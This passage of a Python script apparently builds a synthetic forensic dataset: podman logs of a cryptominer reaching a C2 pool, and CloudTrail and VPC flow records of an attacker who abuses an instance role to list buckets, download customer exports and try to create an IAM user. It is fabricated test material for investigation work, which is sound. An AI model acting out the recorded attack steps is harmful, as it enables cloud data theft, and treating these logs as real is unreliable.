    "%s stdout P  * POOL #1      %s:443 algo auto \n" % (ctr("11:40:05", 1030000), C2_DOMAIN),
    "%s stdout F (donate-level 1)\n" % ctr("11:40:05", 1030100),
    "%s stdout F [2026-11-23 11:40:05.401]  net      use pool %s:443 TLSv1.3 %s\n" % (ctr("11:40:05", 401000000), C2_DOMAIN, C2_IP),
    "%s stdout F [2026-11-23 11:40:05.402]  net      new job from %s:443 diff 120001 algo rx/0 height 3301234\n" % (ctr("11:40:05", 402000000), C2_DOMAIN),
]))

# rootless alice: events_logger = "file" (~/.config/containers/containers.conf), $XDG_RUNTIME_DIR/libpod/tmp/events
def pev(hms, ns, status, cid, name, image, extra=None):
    e = {"ID": cid, "Image": image, "Name": name, "Status": status, "Time": ts(hms, ns).replace("Z", "+00:00"),
         "Type": "container", "Attributes": {"image": image, "name": name}}
    if extra: e.update(extra)
    return e
runner_img = "docker.io/library/alpine:3.19"
write("hosts/i-0def5678abc901234/run/user/1001/libpod/tmp/events/events.log", jl([
    pev("11:39:58", 100000000, "pull", None, None, runner_img) | {"Type": "image", "ID": ALPINE_ID[7:], "Name": runner_img},
    pev("11:40:00", 120000000, "create", RUNNER, "ci-runner", runner_img),
    pev("11:40:00", 410000000, "init", RUNNER, "ci-runner", runner_img),
    pev("11:40:00", 702000000, "start", RUNNER, "ci-runner", runner_img),
]))
# rootful: the system journal (journalctl -o json), podman's journald events backend (PODMAN_* fields)
def pj(hms, ns, status, cid, name, image):
    t = epoch(hms) * 1000000 + ns // 1000
    return journal(t, "%s %s.%09d +0000 UTC container %s %s (image=%s, name=%s)" % (DAY, hms, ns, status, cid, image, name),
                   unit="session-3.scope", ident="podman", comm="podman", pid="2301", host=HOST_B,
                   extra={"PODMAN_EVENT": status, "PODMAN_TYPE": "container", "PODMAN_TIME": ts(hms, ns), "PODMAN_ID": cid,
                          "PODMAN_NAME": name, "PODMAN_IMAGE": image, "_CMDLINE": "podman run -d --name node-exporter --net host --pid host quay.io/prometheus/node-exporter:v1.8.1"})
write("hosts/i-0def5678abc901234/journal/podman-events-journal.json", jl([
    pj("07:50:00", 210000000, "create", EXPORTER, "node-exporter", "quay.io/prometheus/node-exporter:v1.8.1"),
    pj("07:50:01", 5000000, "start", EXPORTER, "node-exporter", "quay.io/prometheus/node-exporter:v1.8.1"),
]))

# ------------------------------------------------------------------------------------------------- AWS: CloudTrail
_ct = [0]
def ct(hms, source, name, src_ip, ua, params=None, resp=None, error=None, readonly=True, data=False, vpce=None, resources=None):
    _ct[0] += 1
    r = {"eventVersion": "1.09", "userIdentity": {"type": "AssumedRole", "principalId": "AROAHOSTSCEN4RIO0001:" + INSTANCE_A,
         "arn": SESSION, "accountId": ACCT, "accessKeyId": KEY,
         "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROAHOSTSCEN4RIO0001",
                            "arn": "arn:aws:iam::%s:role/%s" % (ACCT, ROLE), "accountId": ACCT, "userName": ROLE},
                            "attributes": {"creationDate": ts("08:55:00", 0)[:-11] + "Z", "mfaAuthenticated": "false"},
                            "ec2RoleDelivery": "2.0"}},
         "eventTime": "%sT%sZ" % (DAY, hms), "eventSource": source, "eventName": name, "awsRegion": REGION,
         "sourceIPAddress": src_ip, "userAgent": ua, "requestParameters": params, "responseElements": resp,
         "requestID": "HOSTSCEN%08d" % _ct[0], "eventID": "4d2c6b1a-0000-4000-8000-%012d" % _ct[0],
         "readOnly": readonly, "eventType": "AwsApiCall", "managementEvent": not data, "recipientAccountId": ACCT,
         "eventCategory": "Data" if data else "Management",
         "tlsDetails": {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256", "clientProvidedHostHeader": source}}
    if error: r["errorCode"], r["errorMessage"] = error
    if vpce: r["vpcEndpointId"], r["vpcEndpointAccountId"] = vpce, ACCT
    if resources: r["resources"] = resources
    return r
APP_UA = "aws-sdk-php/3.301.2 OS/Linux/6.1.61 lang/php#8.2.13 m/E"
CLI_UA = "aws-cli/2.15.10 md/awscrt#0.19.19 ua/2.0 os/linux#6.5.0 md/arch#x86_64 lang/python#3.11.6 md/prompt#off md/command#s3.ls"
bucket_res = lambda b, k=None: [{"type": "AWS::S3::Object", "ARN": "arn:aws:s3:::%s/%s" % (b, k)}] if k else [{"type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::" + b}]
trail = [
    ct("08:46:10", "s3.amazonaws.com", "PutObject", IP_A, APP_UA, {"bucketName": "shop-uploads-333333333333", "key": "carts/8812.json",
       "Host": "shop-uploads-333333333333.s3.us-east-1.amazonaws.com"}, None, readonly=False, data=True, vpce="vpce-0333s3gw00000001",
       resources=bucket_res("shop-uploads-333333333333", "carts/8812.json")),
    ct("09:15:40", "sts.amazonaws.com", "GetCallerIdentity", ATTACKER, CLI_UA.replace("s3.ls", "sts.get-caller-identity")),
    ct("09:16:05", "s3.amazonaws.com", "ListBuckets", ATTACKER, CLI_UA, {"Host": "s3.us-east-1.amazonaws.com"}),
    ct("09:16:30", "s3.amazonaws.com", "GetObject", ATTACKER, CLI_UA.replace("s3.ls", "s3.cp"),
       {"bucketName": "shop-customer-exports-333333333333", "key": "exports/customers-2026-11.csv.gz",
        "Host": "shop-customer-exports-333333333333.s3.us-east-1.amazonaws.com"}, None, data=True,
       resources=bucket_res("shop-customer-exports-333333333333", "exports/customers-2026-11.csv.gz")),
    ct("09:17:12", "iam.amazonaws.com", "CreateUser", ATTACKER, CLI_UA.replace("s3.ls", "iam.create-user"),
       {"userName": "svc-backup"}, None, error=("AccessDenied", "User: %s is not authorized to perform: iam:CreateUser" % SESSION), readonly=False),
    ct("09:20:00", "s3.amazonaws.com", "PutObject", IP_A, APP_UA, {"bucketName": "shop-uploads-333333333333", "key": "carts/8813.json",
       "Host": "shop-uploads-333333333333.s3.us-east-1.amazonaws.com"}, None, readonly=False, data=True, vpce="vpce-0333s3gw00000001",
       resources=bucket_res("shop-uploads-333333333333", "carts/8813.json")),
]
write("AWSLogs/%s/CloudTrail/%s/2026/11/23/%s_CloudTrail_%s_20261123T0920Z_HostScen4rio0001.json" % (ACCT, REGION, ACCT, REGION),
      json.dumps({"Records": trail}, separators=(",", ":")))

# ---------------------------------------------------------------------------------------------- AWS: VPC Flow Logs
FLOW_FIELDS = "version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status vpc-id subnet-id instance-id tcp-flags type pkt-srcaddr pkt-dstaddr"
def flow(src, dst, sport, dport, pk, by, start, end, flags=3):
    return " ".join(map(str, [3, ACCT, ENI_A, src, dst, sport, dport, 6, pk, by, epoch(start), epoch(end), "ACCEPT", "OK",
                              VPC, "subnet-0333aaaa0000c0001", INSTANCE_A, flags, "IPv4", src, dst]))
flows = [FLOW_FIELDS,
         flow(ATTACKER, IP_A, 51514, 8080, 31, 41210, "09:10:00", "09:10:59"),
         flow(IP_A, ATTACKER, 8080, 51514, 22, 6120, "09:10:00", "09:10:59"),
         flow(IP_A, C2_IP, 40112, 443, 14, 2210, "09:13:00", "09:13:59"),
         flow(C2_IP, IP_A, 443, 40112, 12, 9830, "09:13:00", "09:13:59"),
         flow(IP_A, "10.30.5.20", 41822, 5432, 40, 9100, "09:12:00", "09:12:59")]
write("AWSLogs/%s/vpcflowlogs/%s/2026/11/23/%s_vpcflowlogs_%s_fl-0333aaaa0000f0001_20261123T0915Z_7c1e2d3f.log" % (ACCT, REGION, ACCT, REGION),
      "\n".join(flows) + "\n")

# ------------------------------------------------------------------------------------------------ context manifest
write("strata-context.yaml", """# Where each host's evidence came from (what the files themselves do not say: the responder imaged these two
# instances); AWSLogs/ names its account itself.
- path: hosts/i-0abc1234def567890
  host: %s
  cloud_provider: aws
  cloud_account: "%s"
  cloud_region: %s
  cloud_instance: %s
- path: hosts/i-0def5678abc901234
  host: %s
  cloud_provider: aws
  cloud_account: "%s"
  cloud_region: %s
  cloud_instance: %s
""" % (HOST_A, ACCT, REGION, INSTANCE_A, HOST_B, ACCT, REGION, INSTANCE_B))

# a writable layer's directories changed when the container wrote into them: their mtime is their latest entry's
dirs = {}
for p, t in mtimes:
    d = os.path.dirname(p)
    while not d.endswith("/diff"):
        dirs[d] = max(dirs.get(d, 0), t)
        d = os.path.dirname(d)
write("mtimes.tsv", "".join("%s\t%d\n" % (p, t) for p, t in sorted(mtimes + list(dirs.items()), key=lambda x: (-x[0].count("/"), x[0]))))
write("ids.txt", "".join("%s=%s\n" % kv for kv in [("WEB", WEB), ("BILLING", BILLING), ("PRIV", PRIV), ("RUNNER", RUNNER),
      ("EXPORTER", EXPORTER), ("WEB_DIGEST", WEB_DIGEST), ("DROPPED_SHA256", DROPPED_SHA256)]))

if __name__ == "__main__":
    pass
